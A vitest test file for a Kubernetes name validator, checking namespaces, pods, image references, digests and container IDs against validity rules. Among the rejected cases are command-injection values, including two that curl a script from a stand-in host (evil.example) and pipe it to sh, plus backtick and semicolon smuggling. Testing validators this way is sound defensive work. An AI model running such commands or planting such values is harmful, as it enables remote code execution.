import { describe, expect, it } from "vitest";
import { checkKubernetesName, type NameKind } from "@/lib/domain/kubernetes-names";

const HEX64 = "4f3c2a1b".repeat(8);

const cases: [NameKind, string, boolean][] = [
  // DNS-1123 label: namespace, container name
  ["namespace", "payments", true],
  ["namespace", "kube-system", true],
  ["namespace", "a", true],
  ["namespace", "0", true],
  ["namespace", "a".repeat(63), true],
  ["namespace", "a".repeat(64), false],
  ["namespace", "", false],
  ["namespace", "Payments", false],
  ["namespace", "-payments", false],
  ["namespace", "payments-", false],
  ["namespace", "pay.ments", false],
  ["namespace", "pay_ments", false],
  ["namespace", "payments;curl", false],
  ["namespace", "payments\n", false],
  ["namespace", "paymènts", false],
  ["container_name", "api", true],
  ["container_name", "istio-proxy", true],
  ["container_name", "api.v2", false],
  // DNS-1123 subdomain: pod, workload, node
  ["pod", "web-7d9f8b6c5d-x2x9q", true],
  ["pod", "web-0", true],
  ["pod", "a.b.c", true],
  ["pod", `${"a".repeat(63)}.${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(61)}`, true],
  ["pod", "a".repeat(254), false],
  ["pod", "a..b", false],
  ["pod", ".a", false],
  ["pod", "a.", false],
  ["pod", "web-7d9f8b6c5d-x2x9q -o yaml; curl -sk https://evil.example/x.sh | sh", false],
  ["pod", "web`id`", false],
  ["workload", "payments-api", true],
  ["workload", "Payments-API", false],
  ["node", "ip-10-0-1-12.eu-west-1.compute.internal", true],
  ["node", "ip-10-0-1-12.eu-west-1.compute.internal)", false],
  // The project's cluster names
  ["cluster", "prod-eu", true],
  ["cluster", "Prod_EU.1", true],
  ["cluster", "a".repeat(100), true],
  ["cluster", "a".repeat(101), false],
  ["cluster", "-prod", false],
  ["cluster", "prod eu", false],
  // Image references
  ["image", "nginx", true],
  ["image", "nginx:1.27", true],
  ["image", "docker.io/library/nginx:1.27-alpine", true],
  ["image", "registry.example:5000/team/app:1.2", true],
  ["image", "localhost/app", true],
  ["image", "[::1]:5000/app:v1", true],
  ["image", `ghcr.io/acme/payments-api@sha256:${HEX64}`, true],
  ["image", `ghcr.io/acme/payments-api:1.4.2@sha256:${HEX64}`, true],
  ["image", "ghcr.io/acme/pay__ments---api", true],
  ["image", "ghcr.io/acme/Payments", false],
  ["image", "ghcr.io/acme/app:", false],
  ["image", "ghcr.io/acme/app:-1", false],
  ["image", `ghcr.io/acme/app:${"a".repeat(129)}`, false],
  ["image", "ghcr.io/acme/app@sha256:abc", false],
  ["image", "app;curl evil.example|sh", false],
  ["image", "ghcr.io//app", false],
  ["image", "a".repeat(600), false],
  // Digests and container ids
  ["image_digest", `sha256:${HEX64}`, true],
  ["image_digest", `sha256:${HEX64.toUpperCase()}`, false],
  ["image_digest", "sha256:4f3c", false],
  ["image_digest", `sha512:${HEX64}`, false],
  ["container_id", "0123456789ab", true],
  ["container_id", HEX64, true],
  ["container_id", "host", true],
  ["container_id", "0123456789a", false],
  ["container_id", "0123456789abc", false],
  ["container_id", "0123456789ag", false],
];

describe("checkKubernetesName", () => {
  it.each(cases)("%s %j → %s", (kind, value, valid) => {
    const check = checkKubernetesName(kind, value);
    expect(check.ok).toBe(valid);
    if (!check.ok) expect(check.reason).toMatch(/\w/);
  });

  it("says how long a name is when it is too long", () => {
    expect(checkKubernetesName("namespace", "a".repeat(10_000))).toEqual({
      ok: false,
      reason: expect.stringContaining("10000 characters"),
    });
  });

  it("answers at once for a 1 MB value", () => {
    const started = performance.now();
    for (const kind of ["namespace", "pod", "image", "cluster", "container_id", "image_digest"] as const) {
      expect(checkKubernetesName(kind, "a-".repeat(500_000)).ok).toBe(false);
    }
    expect(performance.now() - started).toBeLessThan(200);
  });
});
